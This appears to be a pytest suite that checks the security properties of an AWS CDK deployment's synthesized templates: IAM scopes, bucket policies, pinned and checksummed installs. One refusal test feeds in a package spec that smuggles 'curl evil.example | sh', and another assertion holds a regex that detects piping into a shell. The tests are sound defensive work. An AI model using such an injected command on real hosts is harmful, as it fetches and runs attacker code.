"""The CDK app, synthesized offline: cdk-nag (as a validation plugin), cfn-lint and checkov on every
template, the security properties asserted on the templates themselves, and the wiring the daemon
relies on, down to reading its settings from the SSM parameters the stack writes."""

import json
import re
import subprocess
import threading
import time
from importlib.metadata import version
from pathlib import Path

import boto3
import pytest

import yaml
from aws_cdk import App, Stack
from aws_cdk import aws_s3 as s3

from codsplat.aws import bacalhau
from codsplat.aws.app import synth, validate
from codsplat.aws.base import TEMPORARY_PREFIXES
from codsplat.orchestrator.backends import build_daemon
from codsplat.orchestrator.executors.sagemaker import ASL_PATH
from codsplat.orchestrator.provision import MAX_RECEIVE_COUNT, QUEUE_VISIBILITY_SECONDS, SSM_PATH, provision
from codsplat.orchestrator.records import DynamoStore
from codsplat.orchestrator.settings import Settings, from_text, load_settings

ROOT = Path(__file__).resolve().parents[1]
CHECKS_VENV = ROOT / ".venv-checks" / "bin"
SHA256 = "3" * 64  # a release checksum; user data must carry it to sha256sum -c


@pytest.fixture(scope="module")
def assembly(tmp_path_factory):
    out = tmp_path_factory.mktemp("cdk.out")
    synth(out, {"emails": "ops@example.com,artist@example.com", "gpu_nodes": 1, "bacalhau_sha256": SHA256,
                "console_origins": "https://console.example.com"})  # raises on any unacknowledged finding
    templates = {p.name.split(".")[0]: json.loads(p.read_text()) for p in out.glob("*.template.json")}
    return out, templates


def resources(template, kind):
    return {k: v for k, v in template["Resources"].items() if v["Type"] == kind}


def test_every_stack_synthesizes_offline_with_every_nag_finding_acknowledged(assembly):
    out, templates = assembly
    assert set(templates) == {"CodsplatBase", "CodsplatOrchestrator", "CodsplatGpuNodes"}
    report = json.loads((out / "validation-report.json").read_text())  # written whenever the plugin ran
    assert not any(r["violations"] for r in report["pluginReports"])


def test_an_unacknowledged_finding_fails_synthesis(tmp_path):
    """The same plugin the app adds, on a bucket with none of the data bucket's protections."""
    app = App(outdir=str(tmp_path))
    s3.Bucket(Stack(app, "Careless"), "Open")
    validate(app)
    with pytest.raises(RuntimeError, match="ValidationFailed"):
        app.synth()
    findings = json.loads((tmp_path / "validation-report.json").read_text())["pluginReports"]
    assert {v["ruleName"] for r in findings for v in r["violations"]} >= {"AwsSolutions-S1", "AwsSolutions-S10"}


def test_deploying_without_the_bacalhau_checksum_is_refused_with_guidance(tmp_path):
    with pytest.raises(SystemExit, match=r"bacalhau_sha256=<64 hex digits>.*releases/download/v\d"):
        synth(tmp_path, {"bacalhau_sha256": "latest"})


@pytest.mark.parametrize("spec", ["codsplat", "codsplat>=0.1", "codsplat==0.*", "codsplat @ https://example.com/c.whl",
                                  "codsplat==0.1.0'; curl evil.example | sh; '"])
def test_a_host_package_that_is_not_pinned_is_refused_with_guidance(tmp_path, spec):
    with pytest.raises(SystemExit, match=r"is not pinned\. Give a version, `codsplat==0\.1\.0`, or a URL with its checksum"):
        synth(tmp_path, {"bacalhau_sha256": SHA256, "package": spec})


def test_a_host_package_by_url_with_its_checksum_is_what_the_host_installs(tmp_path):
    spec = "codsplat @ https://example.com/codsplat-0.1.0-py3-none-any.whl#sha256=" + "a" * 64
    synth(tmp_path, {"bacalhau_sha256": SHA256, "package": spec})
    assert f"pip install --quiet '{spec}'" in user_data(json.loads((tmp_path / "CodsplatOrchestrator.template.json").read_text()))


def test_cfn_lint_reports_no_errors(assembly):
    out, _ = assembly
    assert (CHECKS_VENV / "cfn-lint").exists(), "install aws/requirements-checks.txt into .venv-checks (README)"
    proc = subprocess.run([CHECKS_VENV / "cfn-lint", *sorted(out.glob("*.template.json"))], capture_output=True, text=True)
    assert proc.returncode & 2 == 0, proc.stdout  # bit 2: errors (4 and 8 are warnings and notes)


def test_checkov_passes_or_skips_with_a_reason(assembly):
    out, templates = assembly
    proc = subprocess.run([CHECKS_VENV / "checkov", "-d", out, "--framework", "cloudformation", "--skip-download",
                           "-o", "json"], capture_output=True, text=True)
    reports = json.loads(proc.stdout)
    reports = reports if isinstance(reports, list) else [reports]
    failed = [(c["check_id"], c["resource"]) for r in reports for c in r["results"]["failed_checks"]]
    assert failed == [], failed
    skipped = [c for r in reports for c in r["results"]["skipped_checks"]]
    assert skipped and all(len(c["check_result"].get("suppress_comment", "")) > 20 for c in skipped)


def test_no_statement_grants_a_wildcard_action_or_a_managed_full_access_policy(assembly):
    """Every Allow names its actions. The one exception is the key policy's statement that hands the
    key to the account's IAM (kms:* for the account root, AWS's default), so IAM policies govern it."""
    _, templates = assembly
    allows = 0
    for name, template in templates.items():
        for key, res in template["Resources"].items():
            props = res.get("Properties", {})
            for doc in filter(None, [props.get("PolicyDocument"), props.get("KeyPolicy"),
                                     *[p["PolicyDocument"] for p in props.get("Policies", [])]]):
                for statement in (s for s in doc["Statement"] if s["Effect"] == "Allow"):
                    allows += 1
                    actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
                    if res["Type"] == "AWS::KMS::Key" and actions == ["kms:*"]:
                        assert json.dumps(statement["Principal"]).endswith(':root"]]}}'), statement
                        continue
                    for action in actions:
                        assert action != "*" and not action.endswith(":*"), f"{name}/{key}: {action}"
            for arn in props.get("ManagedPolicyArns", []):
                assert "FullAccess" not in json.dumps(arn), f"{name}/{key}"
    assert allows > 20


def test_the_data_bucket_is_private_tls_only_logged_and_versioned(assembly):
    _, templates = assembly
    base = templates["CodsplatBase"]
    buckets = resources(base, "AWS::S3::Bucket")
    data = next(v for v in buckets.values() if "NotificationConfiguration" in v["Properties"])["Properties"]
    assert data["VersioningConfiguration"]["Status"] == "Enabled"
    assert data["BucketEncryption"]["ServerSideEncryptionConfiguration"]
    assert all(data["PublicAccessBlockConfiguration"].values())
    assert data["LoggingConfiguration"]["DestinationBucketName"]
    # the console's origin (and only it) may PUT upload parts and read splats with presigned links
    assert data["CorsConfiguration"]["CorsRules"] == [{
        "AllowedHeaders": ["*"], "AllowedMethods": ["GET", "PUT", "HEAD"], "AllowedOrigins": ["https://console.example.com"],
        "ExposedHeaders": ["ETag"], "MaxAge": 3600}]
    for rule in data["LifecycleConfiguration"]["Rules"]:  # only temporary prefixes; results are never expired
        assert rule["Prefix"] in TEMPORARY_PREFIXES and not rule["Prefix"].startswith(Settings().output_prefix)
    for policy in resources(base, "AWS::S3::BucketPolicy").values():
        denies = [s for s in policy["Properties"]["PolicyDocument"]["Statement"] if s["Effect"] == "Deny"]
        assert any(s["Condition"] == {"Bool": {"aws:SecureTransport": "false"}} and s["Action"] == "s3:*"
                   and s["Principal"] == {"AWS": "*"} for s in denies)


def test_job_events_reach_a_queue_with_a_dead_letter_queue(assembly):
    _, templates = assembly
    base = templates["CodsplatBase"]
    data = next(v for v in resources(base, "AWS::S3::Bucket").values() if "NotificationConfiguration" in v["Properties"])
    [topic_config] = data["Properties"]["NotificationConfiguration"]["TopicConfigurations"]
    rules = {r["Name"]: r["Value"] for r in topic_config["Filter"]["S3Key"]["Rules"]}
    assert topic_config["Event"] == "s3:ObjectCreated:*" and rules == {"prefix": Settings().jobs_prefix, "suffix": ".json"}
    queues = resources(base, "AWS::SQS::Queue")
    [jobs] = [q["Properties"] for q in queues.values() if "RedrivePolicy" in q["Properties"]]
    assert jobs["RedrivePolicy"]["maxReceiveCount"] == MAX_RECEIVE_COUNT
    assert jobs["VisibilityTimeout"] == QUEUE_VISIBILITY_SECONDS and jobs["KmsMasterKeyId"]
    assert jobs["RedrivePolicy"]["deadLetterTargetArn"]["Fn::GetAtt"][0] in queues
    [subscription] = [s["Properties"] for s in resources(base, "AWS::SNS::Subscription").values() if s["Properties"]["Protocol"] == "sqs"]
    assert subscription["TopicArn"] == {"Ref": topic_config["Topic"]["Ref"]}
    emails = {s["Properties"]["Endpoint"]: s["Properties"]["FilterPolicy"]
              for s in resources(base, "AWS::SNS::Subscription").values() if s["Properties"]["Protocol"] == "email"}
    assert emails == {e: {"recipient": [e]} for e in ("ops@example.com", "artist@example.com")}


def test_the_table_is_the_one_the_store_uses_with_recovery_and_ttl(assembly):
    _, templates = assembly
    [table] = resources(templates["CodsplatBase"], "AWS::DynamoDB::Table").values()
    props, want = table["Properties"], DynamoStore.table_definition("x")
    assert props["KeySchema"] == want["KeySchema"] and props["AttributeDefinitions"] == want["AttributeDefinitions"]
    assert props["GlobalSecondaryIndexes"] == want["GlobalSecondaryIndexes"] and props["BillingMode"] == "PAY_PER_REQUEST"
    assert props["PointInTimeRecoverySpecification"]["PointInTimeRecoveryEnabled"]
    assert props["TimeToLiveSpecification"] == {"AttributeName": "expires_at", "Enabled": True}


def test_the_state_machine_is_the_asl_file_the_daemon_tests_execute(assembly):
    _, templates = assembly
    [machine] = resources(templates["CodsplatBase"], "AWS::StepFunctions::StateMachine").values()
    props = machine["Properties"]
    asl = ASL_PATH.read_text()
    assert props["DefinitionString"] == asl
    assert set(props["DefinitionSubstitutions"]) == set(re.findall(r"\$\{(\w+)\}", asl)) == {"TrainingImage", "SageMakerRoleArn"}
    assert props["LoggingConfiguration"]["Level"] == "ALL"


def user_data(template) -> str:
    [launch] = resources(template, "AWS::EC2::LaunchTemplate").values()
    data = launch["Properties"]["LaunchTemplateData"]
    assert data["MetadataOptions"]["HttpTokens"] == "required" and "KeyName" not in data
    return json.dumps(data["UserData"])


def test_the_repository_and_the_host(assembly):
    _, templates = assembly
    [repo] = resources(templates["CodsplatBase"], "AWS::ECR::Repository").values()
    assert repo["Properties"]["ImageTagMutability"] == "IMMUTABLE"
    assert repo["Properties"]["ImageScanningConfiguration"] == {"ScanOnPush": True}
    host = templates["CodsplatOrchestrator"]
    text = user_data(host)
    unit = (ROOT / "orchestrator" / "codsplat-daemon.service").read_text()
    assert f"CODSPLAT_SSM_PATH={SSM_PATH}" in unit
    assert all(json.dumps(line)[1:-1] in text for line in unit.splitlines() if line)  # the repo's unit, as is
    assert f"pip install --quiet 'codsplat=={version('codsplat')}'" in text  # pinned: this release, not the index's newest


def test_the_network_reaches_the_orchestrator_only_from_gpu_nodes(assembly):
    """Both groups have no inline ingress; the one ingress rule in the app opens Bacalhau's node port
    on the host to the node security group, nothing to an address range."""
    _, templates = assembly
    host = templates["CodsplatOrchestrator"]
    groups = resources(host, "AWS::EC2::SecurityGroup")
    assert all("SecurityGroupIngress" not in g["Properties"] for t in templates.values()
               for g in resources(t, "AWS::EC2::SecurityGroup").values())
    [rule] = [r["Properties"] for t in templates.values() for r in resources(t, "AWS::EC2::SecurityGroupIngress").values()]
    node_sg = next(k for k, g in groups.items() if g["Properties"]["GroupDescription"].startswith("codsplat GPU nodes"))
    host_sg = next(k for k in groups if k != node_sg)
    assert (rule["IpProtocol"], rule["FromPort"], rule["ToPort"]) == ("tcp", bacalhau.ORCHESTRATOR_PORT, bacalhau.ORCHESTRATOR_PORT)
    assert rule["SourceSecurityGroupId"] == {"Fn::GetAtt": [node_sg, "GroupId"]}
    assert rule["GroupId"] == {"Fn::GetAtt": [host_sg, "GroupId"]} and "CidrIp" not in rule
    [launch] = resources(templates["CodsplatGpuNodes"], "AWS::EC2::LaunchTemplate").values()
    assert "CodsplatOrchestrator:ExportsOutputFnGetAttNodeSecurityGroup" in json.dumps(
        launch["Properties"]["LaunchTemplateData"]["SecurityGroupIds"])


def test_instances_install_a_checksummed_bacalhau_and_hold_secrets_by_reference(assembly):
    _, templates = assembly
    secrets = resources(templates["CodsplatOrchestrator"], "AWS::SecretsManager::Secret")
    assert len(secrets) == 2 and all(s["Properties"]["GenerateSecretString"]["PasswordLength"] >= 32
                                     and s["Properties"]["KmsKeyId"] for s in secrets.values())
    for name in ("CodsplatOrchestrator", "CodsplatGpuNodes"):
        text = user_data(templates[name])
        assert f"echo '{SHA256}  /tmp/bacalhau.tgz' | sha256sum -c -" in text
        assert bacalhau.release_url(bacalhau.BACALHAU_VERSION) in text
        assert not re.search(r"\|\s*(sudo\s+)?(ba)?sh\b", text), "nothing piped into a shell"
        assert "secretsmanager get-secret-value" in text and "GenerateSecretString" not in text
        readers = [s for t in templates.values() for p in resources(t, "AWS::IAM::Policy").values()
                   for s in p["Properties"]["PolicyDocument"]["Statement"] if "secretsmanager:GetSecretValue" in s["Action"]]
        assert readers and all("*" not in json.dumps(s["Resource"]) for s in readers)
    host, gpu = user_data(templates["CodsplatOrchestrator"]), user_data(templates["CodsplatGpuNodes"])
    assert "bacalhau-orchestrator" in host and "route53 change-resource-record-sets" in host
    assert "codsplat-image-sync.timer" in gpu and f"{SSM_PATH}/image" in gpu and "bacalhau-compute" in gpu
    parameters = {p["Properties"]["Name"]: p["Properties"]["Value"]
                  for p in resources(templates["CodsplatOrchestrator"], "AWS::SSM::Parameter").values()}
    assert parameters[f"{SSM_PATH}/bacalhau_host"] == "127.0.0.1"
    assert parameters[f"{SSM_PATH}/bacalhau_api_key_secret"]["Ref"] in secrets


def config(lines: list[str], **values: str) -> dict:
    """The YAML a user-data config heredoc writes, with the shell variables it expands."""
    start = next(i for i, line in enumerate(lines) if line.endswith("<<CONFIG"))
    body = "\n".join(lines[start + 1:lines.index("CONFIG", start)])
    for name, value in values.items():
        body = body.replace(f"${name}", value)
    assert "$" not in body
    return yaml.safe_load(body)


def test_the_bacalhau_configs_use_upstream_keys():
    """Keys as pkg/config/types/{api,auth,orchestrator,compute}.go spell them (v1.7.0+ for API users);
    capabilities as pkg/authz/capabilities.go names them."""
    orchestrator = config(bacalhau.orchestrator("arn:token", "arn:key", "us-east-1"), NODE_TOKEN="0123", API_KEY="k3y")
    assert orchestrator["API"]["Host"] == "127.0.0.1" and orchestrator["API"]["Port"] == bacalhau.API_PORT
    [user] = orchestrator["API"]["Auth"]["Users"]
    assert user["APIKey"] == "k3y" and user["Capabilities"] == [{"Actions": ["read:job", "write:job", "read:node"]}]
    assert orchestrator["Orchestrator"] == {"Enabled": True, "Host": "0.0.0.0", "Port": bacalhau.ORCHESTRATOR_PORT,
                                            "Auth": {"Token": "0123"}}  # a token of digits stays a string
    compute = config(bacalhau.compute("arn:token", "us-east-1", {"codsplat": "gpu"}), NODE_TOKEN="t0k")
    assert compute["Compute"]["Orchestrators"] == [f"nats://{bacalhau.ORCHESTRATOR_NAME}:{bacalhau.ORCHESTRATOR_PORT}"]
    assert compute["Compute"]["Auth"] == {"Token": "t0k"} and compute["Compute"]["AllowListedLocalPaths"] == []
    assert compute["Labels"] == {"codsplat": "gpu"} and compute["API"]["Host"] == "127.0.0.1"
    for node in (orchestrator, compute):  # what test_bacalhau_network runs upstream Bacalhau with
        assert node == {**node, **bacalhau.QUIET}


def test_gpu_nodes_keep_the_amis_docker_a_200_gb_root_and_their_images_before_they_join(assembly):
    _, templates = assembly
    gpu = templates["CodsplatGpuNodes"]
    [launch] = resources(gpu, "AWS::EC2::LaunchTemplate").values()
    [device] = launch["Properties"]["LaunchTemplateData"]["BlockDeviceMappings"]
    assert device["DeviceName"] == "/dev/sda1" and device["Ebs"]["VolumeSize"] == 200  # the Deep Learning AMI's root
    text = user_data(gpu)
    assert "docker.io" not in text  # the AMI's own engine stays
    assert f"ExecStartPre={bacalhau.IMAGE_SYNC}" in text and "docker image prune" in text
    assert text.index(f"cat > {bacalhau.IMAGE_SYNC}") < text.index("systemctl enable --now bacalhau-compute")
    assert bacalhau.NEXT_IMAGE_PARAMETER in text and f"{SSM_PATH}/image" in text
    readable = [r for p in resources(gpu, "AWS::IAM::Policy").values() for s in p["Properties"]["PolicyDocument"]["Statement"]
                if "ssm:GetParameter" in s["Action"] for r in (s["Resource"] if isinstance(s["Resource"], list) else [s["Resource"]])]
    assert any(bacalhau.NEXT_IMAGE_PARAMETER.strip("/") in json.dumps(r) for r in readable)
    [host_launch] = resources(templates["CodsplatOrchestrator"], "AWS::EC2::LaunchTemplate").values()
    assert host_launch["Properties"]["LaunchTemplateData"]["BlockDeviceMappings"][0]["DeviceName"] == "/dev/xvda"


def test_the_daemon_reads_its_settings_from_the_parameters_the_stack_writes(assembly, moto_server, monkeypatch):
    """Deploy the base stack's wiring into moto (boto3 provisioning, the same names the docs use for
    local runs), write the stacks' SSM parameters with those values, then run a job through a daemon
    whose settings come only from SSM, as on the EC2 host: its Bacalhau API key is read from the
    Secrets Manager secret the host stack's parameter names, and a stand-in that requires it runs the job."""
    from servers import start_standin

    _, templates = assembly
    base, host = templates["CodsplatBase"], templates["CodsplatOrchestrator"]
    prefix = f"stk{int(time.time() * 1000) % 10**8}"
    names = provision(boto3.Session(), prefix, endpoint=moto_server.url)
    by_type = {"AWS::S3::Bucket": names["bucket"], "AWS::SQS::Queue": names["queue_url"], "AWS::DynamoDB::Table": names["table"],
               "AWS::SNS::Topic": names["topic_arn"], "AWS::StepFunctions::StateMachine": names["state_machine_arn"],
               "AWS::ECR::Repository": "codsplat"}
    pseudo = {"AWS::Region": "us-east-1", "AWS::AccountId": "123456789012", "AWS::URLSuffix": "amazonaws.com"}

    api_key = "k" * 48
    secrets = boto3.client("secretsmanager", endpoint_url=moto_server.url, region_name="us-east-1")
    by_type["AWS::SecretsManager::Secret"] = secrets.create_secret(Name=f"{prefix}-api-key", SecretString=api_key)["ARN"]

    def value(node, template):  # what CloudFormation would put in the parameter, with the provisioned resources
        if isinstance(node, str):
            return node
        if "Ref" in node:
            return pseudo.get(node["Ref"]) or by_type[template["Resources"][node["Ref"]]["Type"]]
        if "Fn::Join" in node:
            return node["Fn::Join"][0].join(value(p, template) for p in node["Fn::Join"][1])
        if "Fn::Select" in node or "Fn::Split" in node or "Fn::GetAtt" in node:
            return "123456789012.dkr.ecr.us-east-1.amazonaws.com/codsplat"
        raise AssertionError(node)

    ssm = boto3.client("ssm", endpoint_url=moto_server.url, region_name="us-east-1")
    path = f"/{prefix}{SSM_PATH}"
    for template in (base, host):
        for param in resources(template, "AWS::SSM::Parameter").values():
            key = param["Properties"]["Name"].removeprefix(SSM_PATH + "/")
            assert key in Settings.model_fields, f"{key} is not a daemon setting"
            ssm.put_parameter(Name=f"{path}/{key}", Value=value(param["Properties"]["Value"], template), Type="String")
    monkeypatch.setenv("CODSPLAT_AWS_ENDPOINT", moto_server.url)
    settings = load_settings(env={"CODSPLAT_SSM_PATH": path}, ssm_client=ssm)
    assert (settings.bucket, settings.queue_url, settings.table, settings.topic_arn) == (
        names["bucket"], names["queue_url"], names["table"], names["topic_arn"])
    assert settings.state_machine_arn == names["state_machine_arn"] and settings.image.endswith(":latest")
    assert settings.bacalhau_host == "127.0.0.1" and settings.bacalhau_api_key is None
    assert settings.bacalhau_api_key_secret == by_type["AWS::SecretsManager::Secret"]

    standin = start_standin(moto_server.url, api_key=api_key)
    fast = "codsplat-fast:stack"
    standin.knobs(headers={"Authorization": f"Bearer {api_key}"}, nodes=[{"images": {fast: str(ROOT / "benchmarks" / "fast_image")}}])
    settings = settings.model_copy(update={"image": fast, "aws_endpoint": moto_server.url, "s3_endpoint": moto_server.url,
                                           "bacalhau_port": int(standin.url.rsplit(":", 1)[1]),
                                           "queue_wait_seconds": 1, "bacalhau_poll_seconds": 0.1})
    s3 = boto3.client("s3", endpoint_url=moto_server.url, region_name="us-east-1")
    s3.put_object(Bucket=names["bucket"], Key="uploads/stack/clip.mp4", Body=b"\0" * 64)
    daemon = build_daemon(settings)
    thread = threading.Thread(target=daemon.serve, kwargs={"install_signals": False}, daemon=True)
    thread.start()
    try:
        s3.put_object(Bucket=names["bucket"], Key="jobs/stack/first.json",
                      Body=json.dumps({"version": 1, "input": "uploads/stack/clip.mp4"}))
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not (daemon.store.get("first") and daemon.store.get("first").notified_at):
            time.sleep(0.5)
    finally:
        daemon.stop()
        thread.join(timeout=60)
        standin.stop()
    record = daemon.store.get("first")
    assert record.state == "SUCCEEDED" and record.backend == "bacalhau"
    assert s3.head_object(Bucket=names["bucket"], Key="results/first/export/splat.ply")


def test_the_fallback_may_start_only_the_training_jobs_the_policy_allows(assembly):
    """The state machine's role: CreateTrainingJob for the instance types job validation accepts
    (Policy.sagemaker_instance_types), network-isolated, no longer than the policy allows; it may
    stop them (a cancel) and read their outcome, and nothing else of SageMaker."""
    _, templates = assembly
    policy = Settings().policy
    statements = [s for p in resources(templates["CodsplatBase"], "AWS::IAM::Policy").values()
                  for s in p["Properties"]["PolicyDocument"]["Statement"]
                  if any(str(a).startswith("sagemaker:") for a in (s["Action"] if isinstance(s["Action"], list) else [s["Action"]]))]
    [create] = [s for s in statements if s["Action"] == "sagemaker:CreateTrainingJob"]
    assert create["Condition"] == {
        "ForAllValues:StringEquals": {"sagemaker:InstanceTypes": list(policy.sagemaker_instance_types)},
        "Null": {"sagemaker:InstanceTypes": "false"}, "Bool": {"sagemaker:NetworkIsolation": "true"},
        "NumericLessThanEquals": {"sagemaker:MaxRuntimeInSeconds": policy.sagemaker_max_runtime_seconds}}
    assert "ml.p5.48xlarge" not in policy.sagemaker_instance_types and "ml.g5.2xlarge" in policy.sagemaker_instance_types
    actions = {a for s in statements for a in (s["Action"] if isinstance(s["Action"], list) else [s["Action"]])}
    assert actions == {"sagemaker:CreateTrainingJob", "sagemaker:DescribeTrainingJob", "sagemaker:StopTrainingJob",
                       "sagemaker:AddTags"}
    daemon = [s for p in resources(templates["CodsplatOrchestrator"], "AWS::IAM::Policy").values()
              for s in p["Properties"]["PolicyDocument"]["Statement"] if "sagemaker:StopTrainingJob" in json.dumps(s["Action"])]
    assert len(daemon) == 1 and "training-job/codsplat-*" in json.dumps(daemon[0]["Resource"])


def test_the_iam_limits_are_built_from_the_settings_the_daemon_reads(tmp_path):
    """A deployment with limits of its own (`-c settings=FILE`): the SSM parameters the daemon reads hold
    them, and the state machine's CreateTrainingJob condition and the roles' bucket prefixes are built from
    the very policy those parameters give, not from the defaults."""
    file = tmp_path / "deploy.yaml"
    file.write_text("max_gpus: 4\nmax_runtime_minutes: 120\ninput_prefixes: [incoming/]\noutput_prefix: out/\n"
                    "concurrency: 5\nresources: {train: {cpu: '7', memory: 28gb, disk: 90gb}}\n")
    out = tmp_path / "cdk.out"
    synth(out, {"bacalhau_sha256": SHA256, "gpu_nodes": 0, "settings": str(file)})
    base = json.loads((out / "CodsplatBase.template.json").read_text())
    host = json.loads((out / "CodsplatOrchestrator.template.json").read_text())
    texts = {p["Properties"]["Name"].removeprefix(SSM_PATH + "/"): p["Properties"]["Value"]
             for p in resources(base, "AWS::SSM::Parameter").values() if isinstance(p["Properties"]["Value"], str)}
    read = Settings.model_validate({name: from_text(name, text) for name, text in texts.items()})  # as load_settings does
    policy = read.policy
    assert (policy.max_gpus, policy.max_runtime_minutes, policy.input_prefixes, policy.output_prefix) == (4, 120, ("incoming/",), "out/")
    assert read.concurrency == 5 and read.resources["train"].cpu == "7" and read.resources["export"].cpu == "2"

    [create] = [s for s in statements(base) if s["Action"] == "sagemaker:CreateTrainingJob"]
    assert create["Condition"]["ForAllValues:StringEquals"]["sagemaker:InstanceTypes"] == list(policy.sagemaker_instance_types)
    assert "ml.g5.12xlarge" in policy.sagemaker_instance_types  # four GPUs: refused under the default max_gpus of 1
    assert create["Condition"]["NumericLessThanEquals"]["sagemaker:MaxRuntimeInSeconds"] == 120 * 60 * 3
    for template in (base, host):  # the SageMaker role's and the daemon's bucket grants
        s3_grants = json.dumps([s for s in statements(template) if "s3:" in json.dumps(s["Action"])])
        assert "/incoming/*" in s3_grants and "/out/*" in s3_grants
        assert "/uploads/*" not in s3_grants and "/results/*" not in s3_grants


@pytest.mark.parametrize("text, named", [("bucket: mine\n", "bucket"), ("bacalhau_api_key: abc\n", "bacalhau_api_key"),
                                         ("max_gpus: 99\n", "max_gpus"), ("input_prefixes: [a,b/]\n", "input_prefixes")])
def test_a_settings_file_the_stacks_cannot_honour_is_refused_naming_the_setting(tmp_path, text, named):
    file = tmp_path / "deploy.yaml"
    file.write_text(text)
    with pytest.raises(SystemExit, match=named) as refused:
        synth(tmp_path / "cdk.out", {"bacalhau_sha256": SHA256, "settings": str(file)})
    assert "Traceback" not in str(refused.value)


def statements(template) -> list[dict]:
    return [s for p in resources(template, "AWS::IAM::Policy").values() for s in p["Properties"]["PolicyDocument"]["Statement"]]


# ------------------------------------------------------------------ the AWS calls against the roles

DAEMON_SERVICES = ("s3", "sqs", "sns", "dynamodb", "stepfunctions", "sagemaker", "ssm", "secretsmanager")
IAM_PREFIX = {"stepfunctions": "states"}
# API operations IAM authorises under another action (AWS's Service Authorization Reference)
IAM_ACTION = {
    "s3:ListObjectsV2": ["s3:ListBucket"], "s3:HeadObject": ["s3:GetObject"], "s3:HeadBucket": ["s3:ListBucket"],
    "s3:CreateMultipartUpload": ["s3:PutObject"], "s3:UploadPart": ["s3:PutObject"],
    "s3:CompleteMultipartUpload": ["s3:PutObject"], "s3:CopyObject": ["s3:GetObject", "s3:PutObject"],
    "sqs:DeleteMessageBatch": ["sqs:DeleteMessage"], "sqs:ChangeMessageVisibilityBatch": ["sqs:ChangeMessageVisibility"],
    "dynamodb:TransactWriteItems": ["dynamodb:PutItem"],  # each action its items use: the daemon's are Puts (create_many)
}
# method names botocore gives a service that our code uses on objects of its own
NOT_AWS = {"sagemaker:ListJobs": "BacalhauClient.list_jobs"}
# code under orchestrator/ that is not the daemon's: run by an operator or a test with their own credentials
NOT_THE_DAEMON = {"provision.py": "creates the queue, table and topic for tests and local set-ups"}


def daemon_operations() -> set[str]:
    """Every AWS API operation the control plane's code names: a client method called anywhere under
    orchestrator/ (an `x.get_object(...)`, a `get_paginator("list_objects_v2")`, a presigned
    `generate_presigned_url("upload_part")`), as botocore's models name the services' methods."""
    import ast

    import botocore.session

    session = botocore.session.get_session()
    methods = {}  # snake_case method -> "service:Operation"
    for service in DAEMON_SERVICES:
        client = session.create_client(service, region_name="us-east-1", aws_access_key_id="x", aws_secret_access_key="x")
        for method, operation in client.meta.method_to_api_mapping.items():
            methods.setdefault(method, []).append(f"{service}:{operation}")
    called = set()
    for path in (ROOT / "orchestrator").rglob("*.py"):
        if path.name in NOT_THE_DAEMON:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                called.add(node.func.attr)
                if node.func.attr in ("get_paginator", "generate_presigned_url") and node.args \
                        and isinstance(node.args[0], ast.Constant):
                    called.add(node.args[0].value)
    return {op for method in called for op in methods.get(method, []) if op not in NOT_AWS}


def iam_actions(operation: str) -> list[str]:
    service, name = operation.split(":")
    return IAM_ACTION.get(operation, [f"{IAM_PREFIX.get(service, service)}:{name}"])


def granted(template, role_id: str) -> set[str]:
    """The actions the policies attached to one role allow."""
    out = set()
    for policy in resources(template, "AWS::IAM::Policy").values():
        if any(r.get("Ref") == role_id for r in policy["Properties"].get("Roles", [])):
            for statement in policy["Properties"]["PolicyDocument"]["Statement"]:
                if statement["Effect"] == "Allow":
                    actions = statement["Action"]
                    out |= set(actions if isinstance(actions, list) else [actions])
    return out


def test_every_aws_call_of_the_daemon_is_allowed_by_the_host_role(assembly):
    """moto enforces no IAM, so a call the role lacks passes every other test and fails on AWS (a restarted
    daemon could not find its fallback executions: states:DescribeExecution was missing)."""
    _, templates = assembly
    host = templates["CodsplatOrchestrator"]
    [role_id] = [k for k, v in resources(host, "AWS::IAM::Role").items() if k.startswith("DaemonRole")]
    operations = daemon_operations()
    assert {"s3:GetObject", "sqs:ReceiveMessage", "dynamodb:TransactWriteItems", "stepfunctions:DescribeExecution",
            "sagemaker:StopTrainingJob", "sns:Publish"} <= operations  # the scan sees them
    missing = {op: iam_actions(op) for op in sorted(operations) if not set(iam_actions(op)) <= granted(host, role_id)}
    print(f"{len(operations)} operations the daemon calls, all allowed:", sorted(operations))
    assert missing == {}


def test_every_aws_call_of_the_state_machine_is_allowed_by_its_role(assembly):
    """The fallback's calls are its Task states' resources (`arn:aws:states:::aws-sdk:sagemaker:describeTrainingJob`,
    `arn:aws:states:::dynamodb:updateItem`, ...), read from the ASL the stack deploys."""
    _, templates = assembly
    base = templates["CodsplatBase"]
    states = json.loads(ASL_PATH.read_text())["States"]
    calls = set()
    for state in states.values():
        resource = state.get("Resource", "") if state["Type"] == "Task" else ""
        if resource.startswith("arn:aws:states:::"):
            service, _, api = resource.removeprefix("arn:aws:states:::").removeprefix("aws-sdk:").partition(":")
            calls.add(f"{service}:{api.split('.')[0][:1].upper()}{api.split('.')[0][1:]}")
    [machine] = resources(base, "AWS::StepFunctions::StateMachine").values()
    role_id = machine["Properties"]["RoleArn"]["Fn::GetAtt"][0]
    assert {"sagemaker:CreateTrainingJob", "sagemaker:DescribeTrainingJob", "dynamodb:UpdateItem", "sns:Publish"} <= calls
    missing = sorted(c for c in calls if not set(iam_actions(c)) <= granted(base, role_id))
    print(f"{len(calls)} calls the state machine makes, all allowed:", sorted(calls))
    assert missing == []
